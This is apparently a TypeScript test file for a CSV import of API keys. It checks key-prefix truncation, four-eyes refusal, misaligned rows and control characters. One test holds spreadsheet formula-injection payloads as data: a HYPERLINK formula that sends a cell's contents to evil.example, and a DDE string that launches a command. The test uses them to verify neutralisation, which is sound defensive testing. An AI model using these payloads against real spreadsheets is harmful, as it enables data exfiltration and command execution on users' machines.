import { randomBytes } from "node:crypto";
import { parse } from "csv-parse/sync";
import { stringify } from "csv-stringify/sync";
import { eq } from "drizzle-orm";
import { describe, expect, it } from "vitest";
import { apiKeys } from "@/db/schema";
import { userActor } from "@/lib/auth/permissions";
import { isolatedDatabase } from "@/tests/database";
import { catalogueFixture } from "@/tests/fixtures";
import { hashSecret } from "./key-format";
import { importKeys } from "./import-keys";
import { importView } from "./import-view";

// Second adversarial review of issue 16's import (Admin → Keys → Import).
const t = await isolatedDatabase();
const f = await catalogueFixture(t.db);
const adminRow = await f.user("admin");
const admin = userActor(adminRow);
const HEADER = ["app", "consumer_email", "products", "plan", "key", "key_sha256", "expires_at"];
const csvOf = (rows: string[][]) => stringify([HEADER, ...rows]);
const email = (tag: string) => `${tag}-${randomBytes(3).toString("hex")}@example.com`;

describe("import: a short foreign key is not stored in plaintext as its start", () => {
  it("an 8 to 23 character key shows at most a third of itself; longer keys keep 8 characters", async () => {
    const keys = ["Ab3$9xQz", "k3y-ab12cd34", `sk_live_${randomBytes(16).toString("hex")}`];
    const report = await importKeys(t.db, admin, {
      csv: csvOf(keys.map((key, i) => [`Short ${i}`, email("short"), "payments", "Standard", key, "", ""])),
      fileName: "short.csv",
      dryRun: false,
    });
    expect(report.refused).toEqual([]);
    for (const key of keys) {
      const [row] = await t.db.select({ start: apiKeys.start }).from(apiKeys).where(eq(apiKeys.keyHash, hashSecret(key)));
      expect(row).toBeDefined();
      expect(key.startsWith(row?.start ?? "\0")).toBe(true);
      expect(row?.start.length).toBeLessThanOrEqual(Math.min(8, Math.floor(key.length / 3)));
      // At least two thirds of the key stay secret.
      expect(key.length - (row?.start.length ?? 0)).toBeGreaterThanOrEqual(Math.ceil((key.length * 2) / 3));
    }
    const shown = report.imported.map((r) => r.start);
    expect(shown).not.toContain(keys[0]);
    expect(shown[2]).toBe(keys[2]?.slice(0, 8));
  });
});

describe("import: the refusals CSV cannot run formulas in a spreadsheet", () => {
  it("cells starting with = + - @ (and tab/CR) are neutralised with a leading quote", async () => {
    const dangerous = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1"];
    const report = await importKeys(t.db, admin, {
      csv: csvOf(dangerous.map((d) => [d, d, "payments", "Standard", "", "", ""])),
      fileName: "evil.csv",
      dryRun: true,
    });
    expect(report.refused).toHaveLength(dangerous.length);
    const view = importView(report);
    const cells = (parse(view.refusalsCsv, { from_line: 2 }) as string[][]).flat();
    expect(cells.length).toBeGreaterThan(0);
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // The text is kept, behind the quote, so the admin can still read what was refused.
    expect(cells).toContain(`'${dangerous[0]}`);
  });
});

describe("import: an admin cannot import a key for themself (four eyes)", () => {
  it("a row for the importing admin's own email is refused and nothing is written", async () => {
    const key = `sk_self_${randomBytes(16).toString("hex")}`;
    const report = await importKeys(t.db, admin, {
      csv: csvOf([["My own app", adminRow.email.toUpperCase(), "payments", "Standard", key, "", ""]]),
      fileName: "self.csv",
      dryRun: false,
    });
    expect(report.imported).toEqual([]);
    expect(report.refused.map((r) => r.reason)).toEqual([expect.stringMatching(/your own address.*another admin/i)]);
    expect(await t.db.$count(apiKeys, eq(apiKeys.keyHash, hashSecret(key)))).toBe(0);
  });
});

describe("import: a row whose fields do not line up with the header", () => {
  it("is refused as such, and no refusal (page or CSV) echoes the key that slid into another column", async () => {
    const key = `sk_live_${randomBytes(16).toString("hex")}`;
    const header = HEADER.join(",");
    // The products cell is missing: without a check, the key lands in "plan" and is echoed as “Unknown plan”.
    const csv = `${header}\nShifted app,${email("shift")},Standard,${key},,\nLong app,${email("long")},payments,Standard,${key}x,,,extra\n`;
    const report = await importKeys(t.db, admin, { csv, fileName: "shift.csv", dryRun: true });
    expect(report.imported).toEqual([]);
    expect(report.refused.map((r) => [r.row, r.reason])).toEqual([
      [2, expect.stringMatching(/^This row has 6 fields but the header has 7/)],
      [3, expect.stringMatching(/^This row has 8 fields but the header has 7/)],
    ]);
    const shown = JSON.stringify(report.refused) + importView(report).refusalsCsv;
    expect(shown).not.toContain(key.slice(0, 12));
  });
});

describe("import: control characters in products or plan", () => {
  it("a NUL in a product slug or plan name refuses that row (Postgres text cannot hold it), not the whole file with an error", async () => {
    const report = await importKeys(t.db, admin, {
      csv: csvOf([
        ["Nul A", email("nul"), "pay\u0000ments", "Standard", `sk_live_${randomBytes(12).toString("hex")}`, "", ""],
        ["Nul B", email("nul"), "payments", "Stan\u0000dard", `sk_live_${randomBytes(12).toString("hex")}`, "", ""],
        ["Fine", email("fine"), "payments", "Standard", `sk_live_${randomBytes(12).toString("hex")}`, "", ""],
      ]),
      fileName: "nul.csv",
      dryRun: true,
    });
    expect(report.refused.map((r) => [r.row, r.reason])).toEqual([
      [2, expect.stringMatching(/^products .*control characters/)],
      [3, expect.stringMatching(/^plan .*control characters/)],
    ]);
    expect(report.imported.map((r) => r.app)).toEqual(["Fine"]);
  });
});
